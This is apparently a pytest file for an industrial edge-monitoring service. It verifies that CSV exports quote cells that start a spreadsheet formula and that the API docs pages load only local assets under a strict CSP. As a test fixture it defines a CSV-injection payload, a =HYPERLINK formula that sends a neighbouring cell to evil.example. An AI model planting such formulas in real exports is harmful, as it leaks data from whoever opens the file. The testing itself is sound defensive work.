"""CSV exports carry no live spreadsheet formula, and the API docs come from this box.

1. An operator's ``=HYPERLINK(...)`` in a comment was a live cell in the audit-trail export,
   the excursion CSV and an evidence package's ``gaps.csv``. Text cells that start a formula
   now get a leading ``'`` (gmp_edge.csvcell); numbers, a negative one included, stay
   numbers; the JSON exports keep what was typed; the evidence package still verifies.
2. ``/docs`` and ``/redoc`` loaded Swagger UI and ReDoc from a CDN into the API's origin, with
   no CSP, and were blank on an offline box; the CSRF header that writes need was not in the
   OpenAPI document, so "Try it out" could not write. Now the pages load local files under a
   strict CSP and the header is a security scheme Swagger UI's Authorize sets.
"""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import json
import re
import shutil
import socket
import warnings
import zipfile

import pytest
import uvicorn

from gmp_edge.alarms import machine as am
from gmp_edge.alarms.model import ConditionKind, Priority
from gmp_edge.audit.trail import AuditTrail
from gmp_edge.collector.reading import Cause
from gmp_edge.edge.api_wiring import build_api
from gmp_edge.edge.service import EdgeService
from gmp_edge.evidence import verify as ev
from gmp_edge.historian.store import Store
from gmp_edge.identity.roles import Role
from tests.unit.conftest import TEMP, small_plant
from tests.unit.test_evidence import T0, Env, populate
from tests.unit.test_evidence import S as SECOND

with warnings.catch_warnings():  # starlette asks for httpx2, which is not on PyPI for us yet
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

# what a hostile operator types as a comment: a click sends the neighbouring cell away
FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"details")'
ADMIN_PW = "Vault-Keeper-2026!"


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# --------------------------------------------------------------------------- the rule


def test_text_that_starts_a_formula_is_quoted_and_numbers_are_not():
    from gmp_edge.csvcell import neutralise, neutralise_row

    for text in (FORMULA, "+1+1", "-5", "@SUM(A1:A9)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text, text
    for text in ("", "doors closed", "5", " =1", "'already"):
        assert neutralise(text) == text
    # numbers from numeric fields are never altered, negative ones included
    assert neutralise_row([-5.3, -4, 0, None, True, "-5.3"]) == [-5.3, -4, 0, None, True, "'-5.3"]


# --------------------------------------------------------------------- the audit trail


def test_the_audit_export_quotes_free_text_and_keeps_numbers(tmp_path):
    trail = AuditTrail(tmp_path / "edge.db")
    try:
        trail.append("op.olga", "alarm.acknowledged", "alarm", "AL-1", FORMULA, None, None)
        trail.append("@eng", "limit.changed", "limit_set", "-LS", "-5", -5.3, -4)
        trail.append("eng", "limit.changed", "limit_set", "LS", "ok", {"low": -5.3}, "=1+1")
        got = rows(trail.export("csv"))
        assert got[0]["reason"] == "'" + FORMULA
        assert (got[1]["actor"], got[1]["record_id"], got[1]["reason"]) == ("'@eng", "'-LS", "'-5")
        # the product's numbers stay numbers: the JSON numbers, the sequence, the time
        assert (got[1]["old"], got[1]["new"]) == ("-5.3", "-4")
        assert got[1]["seq"].isdigit() and got[1]["ts_us"].isdigit()
        assert json.loads(got[2]["old"]) == {"low": -5.3}
        assert got[2]["new"] == '"=1+1"'  # JSON text begins with a quote: no formula
        # the JSON export and the record keep what was typed
        assert json.loads(trail.export("json"))[0]["reason"] == FORMULA
        assert trail.entries()[0].reason == FORMULA
        assert trail.verify()[2] is None
    finally:
        trail.close()


# ----------------------------------------------------------------- the excursion CSV


@pytest.fixture
def api(tmp_path):
    cfg, sha = small_plant().load(tmp_path)
    store = Store(cfg.store.path)
    trail = AuditTrail(cfg.store.path)
    parts = build_api(cfg, EdgeService(cfg, sha, store), trail)
    parts.directory.create_first_administrator("admin", "Ada Admin", ADMIN_PW)
    token = parts.directory.create_token("admin", "export", Role.ADMINISTRATOR, "tests")
    client = TestClient(parts.app, base_url="http://127.0.0.1")
    yield client, parts, {"Authorization": f"Bearer {token}"}
    client.close()
    parts.close()
    trail.close()
    store.close()


def test_the_excursion_csv_quotes_an_ack_comment_and_keeps_negative_values(api):
    client, parts, auth = api
    t0 = 1_790_000_000_000_000
    alarm = am.new_alarm("AL-1", TEMP, ConditionKind.ACTION_LOW, Priority.HIGH)
    alarm, trip = am.activate(alarm, t0, value=-5.3, limit=-5.0)
    # release.excursions reads "value"/"limit" from the detail, the alarm machine writes
    # "value_at_trip"/"limit_at_trip" (a mismatch of its own): the detail carries both
    trip = dataclasses.replace(trip, detail={**trip.detail, "value": -5.3, "limit": -5.0})
    alarm, ack = am.acknowledge(alarm, t0 + SECOND, user="op.olga", comment=FORMULA)
    parts.engine.books.alarms.save(alarm, [trip, ack])

    r = client.get("/api/excursions", params={"format": "csv"}, headers=auth)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    (row,) = rows(r.text)
    assert row["ack_comment"] == "'" + FORMULA
    assert (row["value_at_trip"], row["limit"]) == ("-5.3", "-5.0")  # numbers, not text
    assert row["tag"] == TEMP and row["acknowledged_by"] == "op.olga"
    # the JSON answer is what the operator typed
    page = client.get("/api/excursions", headers=auth).json()
    assert page["items"][0]["ack_comment"] == FORMULA


# ------------------------------------------------------------ the evidence package


def test_the_evidence_gaps_csv_quotes_a_device_message_and_still_verifies(tmp_path):
    env = Env(tmp_path)
    try:
        populate(env)
        env.store.record_gap(TEMP, T0 + 70 * SECOND, T0 + 72 * SECOND, Cause.NETWORK, FORMULA)
        info = env.build()
        assert ev.verify_package(info.path).ok, ev.verify_package(info.path).problems
        with zipfile.ZipFile(info.path) as zf:
            gaps = rows(zf.read("gaps.csv").decode())
        (hostile,) = [g for g in gaps if "HYPERLINK" in g["message"]]
        assert hostile["message"] == "'" + FORMULA
        assert hostile["start_us"] == str(T0 + 70 * SECOND)  # a number still
        assert all(not g[k].startswith(tuple("=+-@")) for g in gaps for k in g)
    finally:
        env.close()


# ------------------------------------------------------------------------- the docs

EXTERNAL = re.compile(r"""(?:src|href)\s*=\s*["']?\s*(?:https?:)?//""", re.IGNORECASE)


def _assets(html: str) -> list[str]:
    return re.findall(r"""(?:src|href)\s*=\s*["']([^"']+)["']""", html)


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_the_docs_pages_load_local_files_only_under_a_strict_csp(api, path):
    client, _, _ = api
    page = client.get(path)
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert not EXTERNAL.search(page.text), page.text
    assert "googleapis" not in page.text and "cdn" not in page.text.lower()
    kinds = set()
    for url in _assets(page.text):
        assert url.startswith("/"), url
        r = client.get(url)
        assert r.status_code == 200, url
        kinds.add(r.headers["content-type"].split(";")[0])
        if url.endswith(".js"):
            assert len(r.content) > 100_000  # the bundle itself, not an error page
    assert "text/javascript" in kinds
    csp = page.headers["content-security-policy"]
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";") if " " in d.strip())
    assert directives["default-src"] == "'none'"
    script = directives["script-src"].split()
    assert script[0] == "'self'" and all(s.startswith("'sha256-") for s in script[1:])
    assert "http" not in csp and "*" not in csp
    assert directives["connect-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"


def test_the_docs_assets_are_an_allow_list(api):
    client, _, _ = api
    assert client.get("/docs").text.count("swagger-ui.css") == 1
    assert client.get("/static/docs/swagger-ui.css").headers["content-type"].startswith("text/css")
    for name in ("..%2F__init__.py", "core.py", "index.html"):
        assert client.get(f"/static/docs/{name}").status_code == 404
    assert client.get("/static/status.js").status_code == 200  # the pages' own files still


def test_the_openapi_document_declares_the_csrf_header_for_writes(api):
    client, _, _ = api
    spec = client.get("/openapi.json").json()
    schemes = spec["components"]["securitySchemes"]
    (csrf,) = [
        name
        for name, s in schemes.items()
        if s.get("type") == "apiKey" and s.get("in") == "header" and s["name"] == "X-CSRF-Token"
    ]
    writes = reads = 0
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            for need in op.get("security", []):
                if "sessionCookie" not in need:
                    assert csrf not in need  # a bearer token needs no CSRF token
                elif method in ("get", "head", "options"):
                    assert csrf not in need, (method, path)
                    reads += 1
                else:
                    assert csrf in need, (method, path)
                    writes += 1
    assert writes > 20 and reads > 20


# ------------------------------------------------------------------ in a real browser


@pytest.mark.system
async def test_swagger_ui_renders_offline_and_writes_with_the_csrf_token(tmp_path):
    """/docs in headless Chromium with every off-box request refused: Swagger UI renders,
    no CSP violation, and Authorize + Try it out signs out (a write) with the CSRF token."""
    from playwright.async_api import async_playwright, expect

    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.fail("chromium is not installed (run: make system-deps)")
    cfg, sha = small_plant().load(tmp_path)
    store = Store(cfg.store.path)
    trail = AuditTrail(cfg.store.path)
    parts = build_api(cfg, EdgeService(cfg, sha, store), trail)
    parts.directory.create_first_administrator("admin", "Ada Admin", ADMIN_PW)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    base = f"http://127.0.0.1:{sock.getsockname()[1]}"
    server = uvicorn.Server(uvicorn.Config(parts.app, log_level="warning"))
    task = asyncio.create_task(server.serve(sockets=[sock]))
    off_box: list[str] = []
    problems: list[str] = []
    try:
        while not server.started:
            await asyncio.sleep(0.01)
        async with async_playwright() as p:
            browser = await p.chromium.launch(
                executable_path=chromium, args=["--no-sandbox", "--disable-gpu"]
            )
            context = await browser.new_context(viewport={"width": 1280, "height": 1000})

            async def only_this_box(route):
                if route.request.url.startswith(base + "/"):
                    await route.continue_()
                else:  # the edge box has no way out: neither does the test's browser
                    off_box.append(route.request.url)
                    await route.abort()

            await context.route("**/*", only_this_box)
            signin = await context.request.post(
                base + "/api/session", data={"user_id": "admin", "password": ADMIN_PW}
            )
            csrf = (await signin.json())["csrf_token"]
            page = await context.new_page()
            page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: problems.append(str(e)))
            await page.goto(base + "/docs")
            await expect(page.locator(".swagger-ui .info .title")).to_contain_text("gmp-edge")
            await expect(page.locator(".opblock").first).to_be_visible()
            await page.screenshot(path=str(tmp_path / "docs.png"))

            await page.click("button.authorize")
            spec = await (await context.request.get(base + "/openapi.json")).json()
            (scheme,) = [
                name
                for name, s in spec["components"]["securitySchemes"].items()
                if s.get("in") == "header" and s.get("name") == "X-CSRF-Token"
            ]
            box = page.locator(".auth-container", has_text=f"{scheme} (apiKey)")
            await box.locator("input").fill(csrf)
            await box.locator("button.authorize").click()
            await page.locator(".close-modal").click()
            op = page.locator(".opblock-delete", has_text="/api/session")
            await op.locator(".opblock-summary").click()
            await op.locator("button.try-out__btn").click()
            await op.locator("button.execute").click()
            status = op.locator(".live-responses-table tbody .response-col_status").first
            await expect(status).to_have_text("204")
            await browser.close()
        assert [e.action for e in trail.entries()][-1] == "signout"
        assert off_box == [] and problems == [], (off_box, problems)
    finally:
        server.should_exit = True
        await task
        sock.close()
        parts.close()
        trail.close()
        store.close()
